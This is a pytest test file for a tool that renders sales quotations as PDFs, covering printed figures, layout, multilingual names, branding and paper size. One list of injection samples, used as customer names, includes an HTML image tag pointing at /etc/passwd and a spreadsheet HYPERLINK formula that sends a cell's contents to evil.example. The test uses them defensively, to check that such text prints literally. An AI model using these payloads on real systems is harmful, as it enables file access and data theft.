"""The PDF quote read back with pypdf (and pdftotext): every figure, the safety of customer text, scripts, pages."""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader
from reportlab.pdfbase import pdfmetrics
from reportlab.platypus import Paragraph

from cpiquote import formatting as fmt
from cpiquote.documents.branding import load_branding
from cpiquote.documents.info import DocumentInfo, document_info
from cpiquote.documents.pdf.document import render_pdf
from cpiquote.documents.pdf.text import Para, make_styles
from cpiquote.pricing import InputError, InteractionEstimate, PriceBook, Quotation, QuoteRequest, parse_pricebook, price_quote

QUOTE_DATE = dt.date(2026, 11, 27)
WORKED = QuoteRequest(
    (1_200_000,), 3, generative_ai=True, intent_manager=True, care_package=True, services_hours=Decimal(40),
    customer="Contoso Retail Ltd", contact="Jane Doe",
)  # fmt: skip


def render(
    pricebook: PriceBook, request: QuoteRequest, number: str | None = "Q-2026-0042", paper: str | None = None
) -> tuple[Quotation, bytes]:
    quotation = price_quote(pricebook, request)
    info = document_info(quotation, quote_number=number, quote_date=QUOTE_DATE, paper=paper)
    return quotation, render_pdf(quotation, info, invariant=True)


def pages_text(data: bytes) -> list[str]:
    """Each page's extracted text with runs of whitespace made single spaces."""
    return [" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(data)).pages]


def all_text(data: bytes) -> str:
    return " ".join(pages_text(data))


def figures(quotation: Quotation) -> set[str]:
    """Every figure of the quotation as a customer reads it."""
    cur = quotation.pricebook.currency
    shown = {fmt.money(quotation.total_contract_value, cur)}
    if quotation.services:
        shown.add(fmt.money(quotation.services, cur))
    for y in quotation.years:
        shown |= {fmt.money(y.annual_subscription, cur), fmt.price(y.price_per_credit, cur), fmt.price(y.overage_price_per_credit, cur),
                  fmt.price(y.list_price_per_credit, cur), fmt.count(y.annual_credits), fmt.count(y.interactions)}  # fmt: skip
        if y.care_package:
            shown.add(fmt.money(y.care_package, cur))
    for invoice in quotation.invoices:
        shown |= {fmt.money(invoice.amount, cur), fmt.money(invoice.subscription, cur)}
    return shown


@pytest.fixture(scope="module")
def worked(sample_pricebook: PriceBook) -> tuple[Quotation, bytes]:
    return render(sample_pricebook, WORKED)


def test_worked_example_prints_every_figure_of_the_quotation(worked: tuple[Quotation, bytes]) -> None:
    quotation, data = worked
    text = all_text(data)
    missing = [figure for figure in figures(quotation) if figure not in text]
    assert missing == []
    for figure in ("$1,032,240.00", "$103,224.00", "$8,000.00", "$1,143,464.00", "$1,135,464.00", "$3,414,392.00", "$0.5060", "$0.6578"):
        assert figure in text  # pricing-rules.md section 3, worked example 5


def test_worked_example_shows_number_dates_customer_and_terms(worked: tuple[Quotation, bytes]) -> None:
    _, data = worked
    text = all_text(data)
    for expected in ("Q-2026-0042", "November 27, 2026", "Valid until December 27, 2026", "Contoso Retail Ltd", "Attention: Jane Doe",
                     "Generative AI, Intent Manager", "1.7 credits", "calendar day", "time zone of your Site ID", "replies",
                     "Unused credits do not roll over", "overage at $0.6578 per credit", "Care Package (Tier 4 support)",
                     "40 hours at $200.00 an hour", "Total contract value $3,414,392.00", "Acceptance"):  # fmt: skip
        assert expected in text, expected
    assert "DRAFT" not in text
    assert "Pass-through" not in text  # no SMS or WhatsApp quoted: no estimate section


def test_every_page_has_page_x_of_y_and_the_price_book(worked: tuple[Quotation, bytes], sample_pricebook: PriceBook) -> None:
    pages = pages_text(worked[1])
    for number, text in enumerate(pages, start=1):
        assert f"Page {number} of {len(pages)}" in text
        assert f"{sample_pricebook.name}, version {sample_pricebook.version}, hash {sample_pricebook.short_hash}" in text


def test_money_columns_are_right_aligned(sample_pricebook: PriceBook) -> None:
    """Annual fees of different widths ($81,600.00, $1,056,000.00) end at the same x: the column is right-aligned."""
    quotation, data = render(sample_pricebook, QuoteRequest((100_000, 2_000_000), 2))
    fees = {fmt.money(y.annual_subscription, "USD") for y in quotation.years}
    right_edges: dict[str, float] = {}

    def visit(text: str, cm: list[float], tm: list[float], font: dict[str, str] | None, size: float) -> None:
        if text.strip() in fees and font is not None and size == 8:  # the table's cells, not the summary's large figures
            width = pdfmetrics.stringWidth(text.strip(), font["/BaseFont"].split("+")[-1], size)
            right_edges[text.strip()] = cm[4] + tm[4] + width

    PdfReader(io.BytesIO(data)).pages[0].extract_text(visitor_text=visit)
    assert len(fees) == 2 and len({len(fee) for fee in fees}) == 2
    assert set(right_edges) == fees
    assert max(right_edges.values()) - min(right_edges.values()) < 0.5


def test_minimum_order_case_explains_the_raise(sample_pricebook: PriceBook) -> None:
    quotation, data = render(sample_pricebook, QuoteRequest((30_000,), 1))
    text = all_text(data)
    assert quotation.first_year.minimum_applied
    assert "50,000 *" in text and "$47,500.00" in text
    assert "need 30,000 credits; the quote is raised to the minimum order of 50,000 credits a year" in text
    assert "1 credit per interaction" in text


def test_ramp_prints_each_year(sample_pricebook: PriceBook) -> None:
    quotation, data = render(sample_pricebook, QuoteRequest((200_000, 600_000, 1_500_000), 3, care_package=True))
    text = all_text(data)
    assert [figure for figure in figures(quotation) if figure not in text] == []
    assert "SUBSCRIPTION, YEAR 1" in text
    for y in quotation.years:  # overage differs by year, so each is listed
        assert f"{fmt.price(y.overage_price_per_credit, 'USD')} per credit in year {y.year}" in text


def test_graduated_mode_shows_each_band_line(graduated_pricebook: PriceBook) -> None:
    quotation, data = render(graduated_pricebook, WORKED)
    text = all_text(data)
    assert [figure for figure in figures(quotation) if figure not in text] == []
    for line in quotation.first_year.lines:
        assert f"{fmt.count(line.credits)} {fmt.count(line.band_from)} {fmt.price(line.list_price_per_credit, 'USD')}" in text
        assert fmt.money(line.amount, "USD") in text
    assert "Graduated pricing" in text


def test_draft_number_is_marked_draft(sample_pricebook: PriceBook) -> None:
    _, data = render(sample_pricebook, WORKED, number=None)
    text = all_text(data)
    assert re.search(r"DRAFT-20261127-[0-9A-F]{6}", text)
    assert "DRAFT · not yet an offer" in text
    assert "not an offer: an offer carries a quote number" in text


def test_internal_notices_stay_off_the_customer_document(sample_pricebook: PriceBook) -> None:
    quotation, data = render(sample_pricebook, QuoteRequest((95_000,), 1, discount_percent=Decimal(15)))
    kinds = {notice.kind for notice in quotation.warnings}
    assert {"approval_required", "price_break"} <= kinds
    text = all_text(data)
    assert "approval" not in text.lower()
    assert "save" not in text.lower()
    assert "15% discount" in text  # the discount itself is part of the price, so it is shown


def test_pass_through_is_an_estimate_invoiced_monthly_in_arrears(sample_pricebook: PriceBook) -> None:
    request = QuoteRequest((1_200_000,), 1, sms_per_month=20_000, whatsapp_mtm_per_month=5_000)
    quotation, data = render(sample_pricebook, request)
    text = all_text(data)
    p = quotation.pass_through
    assert "Estimate only, not part of the contract value" in text
    assert "monthly in arrears" in text and "15% handling fee" in text
    for amount in (p.sms_per_month, p.whatsapp_per_month, p.handling_fee_per_month, p.monthly_estimate, p.annual_estimate):
        assert fmt.money(amount, "USD") in text
    assert f"Total contract value {fmt.money(quotation.total_contract_value, 'USD')}" in text


def test_estimator_inputs_are_shown(sample_pricebook: PriceBook) -> None:
    estimate = InteractionEstimate(1_000_000, Decimal("0.1"), Decimal("1.5"), 500_000, Decimal("0.1"))
    _, data = render(sample_pricebook, QuoteRequest((estimate.interactions,), 1, estimate=estimate))
    text = all_text(data)
    for expected in ("How the interactions were estimated", "Conversations a year 1,000,000", "running past midnight 10%",
                     "they run 1.5", "Proactive outbound messages a year 500,000", "Estimated interactions a year 1,200,000"):  # fmt: skip
        assert expected in text, expected


HOSTILE = ['<b>x</b> & "q" <img src="/etc/passwd">', '=HYPERLINK("http://evil.example/?x="&A1,"click")', "<para>&amp; </font>"]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_customer_text_prints_literally_and_loads_nothing(sample_pricebook: PriceBook, name: str) -> None:
    _, data = render(sample_pricebook, QuoteRequest((100_000,), 1, customer=name, contact=name))
    squeezed = all_text(data).replace(" ", "")  # a long word may be split over two lines
    assert squeezed.count(name.replace(" ", "")) >= 3  # customer, contact and the signature block
    assert sum(len(page.images) for page in PdfReader(io.BytesIO(data)).pages) == 1  # the logo, nothing the name pointed at


SCRIPTS = {"greek": "Ελληνικές Τηλεπικοινωνίες Α.Ε.", "cyrillic": "ООО «Ромашка» Москва", "chinese": "北京星辰科技有限公司",
           "japanese": "株式会社ひかり 山田太郎", "korean": "삼성전자 주식회사 김민수", "mixed": "Acme 東京 (Ωmega)"}  # fmt: skip


CJK_FONT = {"chinese": b"STSong-Light", "japanese": b"HeiseiKakuGo-W5", "korean": b"HYGothic-Medium", "mixed": b"STSong-Light"}


@pytest.mark.parametrize("script", SCRIPTS)
def test_names_in_other_scripts_read_back_as_written(sample_pricebook: PriceBook, script: str) -> None:
    name = SCRIPTS[script]
    _, data = render(sample_pricebook, QuoteRequest((100_000,), 1, customer=name, contact=name))
    assert name in all_text(data)
    assert b"/FontFile2" in data  # DejaVu Sans is embedded, so Latin, Greek and Cyrillic print anywhere
    if script in CJK_FONT:
        assert CJK_FONT[script] in data  # the CJK run switched to a CID font that has its glyphs
    if shutil.which("pdftotext"):
        extracted = subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True).stdout.decode()
        assert name in " ".join(extracted.split())


def test_a_cjk_price_book_name_and_quote_number_print_in_the_footer_and_header(
    sample_pricebook_bytes: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    from reportlab.pdfgen.canvas import Canvas

    book = parse_pricebook(sample_pricebook_bytes.decode().replace('name = "', 'name = "中文 ').encode(), "zh.toml")
    drawn: list[tuple[str, str]] = []
    draw = Canvas.drawString
    monkeypatch.setattr(
        Canvas,
        "drawString",
        lambda canvas, x, y, text, *a, **k: drawn.append((canvas._fontname, text)) or draw(canvas, x, y, text, *a, **k),
    )
    quotation = price_quote(book, QuoteRequest((1_200_000,), 5, customer="Contoso"))
    render_pdf(quotation, document_info(quotation, "Q-日本-1"))
    cjk = [(font, text) for font, text in drawn if any("\u3040" <= ch <= "\u9fff" for ch in text)]
    assert cjk and all(font in ("STSong-Light", "HeiseiKakuGo-W5") for font, _ in cjk), cjk


def test_long_ramp_and_long_name_render_with_repeated_headers(graduated_pricebook_bytes: bytes) -> None:
    """A 5-year graduated quote over 30 bands runs over pages: the table header repeats, headings stay with their tables."""
    text = graduated_pricebook_bytes.decode()
    bands = ",\n".join(f"  {{ from = {1 if i == 0 else i * 20_000}, price = {Decimal('0.95') - Decimal('0.01') * i} }}" for i in range(30))
    text = re.sub(r"bands = \[.*?\n\]", "bands = [\n" + bands + "\n]", text, flags=re.S)
    pricebook = parse_pricebook(text.encode(), "thirty-bands.toml")
    name = "Общество с ограниченной ответственностью «Ромашка» International Holdings and Subsidiaries of the Northern Hemisphere"
    quotation, data = render(pricebook, QuoteRequest((300_000, 500_000, 800_000, 1_000_000, 1_200_000), 5, customer=name))
    pages = pages_text(data)
    assert [figure for figure in figures(quotation) if figure not in " ".join(pages)] == []
    assert sum("Band from" in page for page in pages) >= 2  # the table header repeats on the next page
    for heading, first_line in (("Subscription by contract year", "Band from"), ("Invoice schedule", "Total contract value"),
                                ("Acceptance", "Signature")):  # fmt: skip
        assert any(heading in page and first_line in page.split(heading, 1)[1] for page in pages), heading
    assert name in " ".join(pages)


def test_paper_follows_the_document_info(sample_pricebook: PriceBook) -> None:
    _, letter = render(sample_pricebook, WORKED)  # USD price book: Letter by default
    _, a4 = render(sample_pricebook, WORKED, paper="a4")
    assert round(float(PdfReader(io.BytesIO(letter)).pages[0].mediabox.width)) == 612
    assert round(float(PdfReader(io.BytesIO(a4)).pages[0].mediabox.width)) == 595


def test_unknown_paper_is_refused_naming_the_field(worked: tuple[Quotation, bytes]) -> None:
    quotation, _ = worked
    with pytest.raises(InputError, match="paper"):
        render_pdf(quotation, DocumentInfo("Q-1", QUOTE_DATE, QUOTE_DATE, "legal"))


def test_invariant_output_is_byte_identical(worked: tuple[Quotation, bytes], sample_pricebook: PriceBook) -> None:
    assert render(sample_pricebook, WORKED)[1] == worked[1]


def test_replacement_branding_is_printed(worked: tuple[Quotation, bytes], tmp_path: Path) -> None:
    shipped = load_branding()
    assert shipped.logo_path is not None
    (tmp_path / "logo.png").write_bytes(shipped.logo_path.read_bytes())
    (tmp_path / "branding.toml").write_text(
        'company_name = "Acme Messaging GmbH"\naddress_lines = ["Hauptstrasse 1"]\nsales_contact = "sales@acme.example"\n'
        'primary_colour = "#224422"\naccent_colour = "#88AA88"\nlogo = "logo.png"\n',
        encoding="utf-8",
    )
    quotation, _ = worked
    info = document_info(quotation, quote_number="Q-9", quote_date=QUOTE_DATE)
    text = all_text(render_pdf(quotation, info, branding=load_branding(tmp_path)))
    assert "Acme Messaging GmbH" in text and "sales@acme.example" in text and "For Acme Messaging GmbH" in text


def _logo_colour(data: bytes) -> tuple[int, ...]:
    """The colour of the centre pixel of the first page's logo."""
    image = PdfReader(io.BytesIO(data)).pages[0].images[0].image
    return image.convert("RGB").getpixel((image.width // 2, image.height // 2))


def test_a_logo_replaced_on_disk_prints_in_the_next_quote(worked: tuple[Quotation, bytes], tmp_path: Path) -> None:
    shipped = load_branding()
    (tmp_path / "branding.toml").write_text(
        f'company_name = "{shipped.company_name}"\naddress_lines = ["Hauptstrasse 1"]\nsales_contact = "sales@acme.example"\n'
        'primary_colour = "#224422"\naccent_colour = "#88AA88"\nlogo = "logo.png"\n',
        encoding="utf-8",
    )
    quotation, _ = worked
    info = document_info(quotation, quote_number="Q-9", quote_date=QUOTE_DATE)
    colours = []
    for step, colour in enumerate(((200, 30, 30), (30, 30, 200))):
        Image.new("RGB", (40, 20), colour).save(tmp_path / "logo.png")
        os.utime(tmp_path / "logo.png", ns=(step * 10**9, step * 10**9))
        colours.append(_logo_colour(render_pdf(quotation, info, branding=load_branding(tmp_path))))
    assert colours == [(200, 30, 30), (30, 30, 200)]


@pytest.mark.parametrize(
    "text", ["24 hours a day, in the subscription", "  runs of   spaces\n and a line break ", "Ελένη Παπαδοπούλου", "1\xa0234\xa0€", ""]
)
def test_plain_text_paragraph_breaks_lines_as_reportlab_would(text: str) -> None:
    """Plain text skips reportlab's markup parser: the fragments, lines and height must be what the parser gives."""
    style = make_styles("#224422", "#88AA88").body
    ours, theirs = Para(text, style), Paragraph(text, style)
    assert [frag.__dict__ for frag in ours.frags] == [frag.__dict__ for frag in theirs.frags]
    assert ours.wrap(60, 500) == theirs.wrap(60, 500)
    assert ours.blPara.lines == theirs.blPara.lines


def test_paragraph_split_over_a_page_break_keeps_every_word() -> None:
    style = make_styles("#224422", "#88AA88").body
    words = [f"word{i}" for i in range(120)]
    paragraph = Para(" ".join(words), style)
    _, height = paragraph.wrap(200, 10_000)
    assert paragraph.split(200, style.leading * 1.5) == []  # one line only: the whole paragraph moves to the next page
    assert paragraph.wrap(200, 10_000) == (200, height)  # and still lays out there
    first, rest = paragraph.split(200, height / 2)
    printed = [word for part in (first, rest) for _, line in (part.wrap(200, 10_000) and part.blPara.lines) for word in line]
    assert printed == words
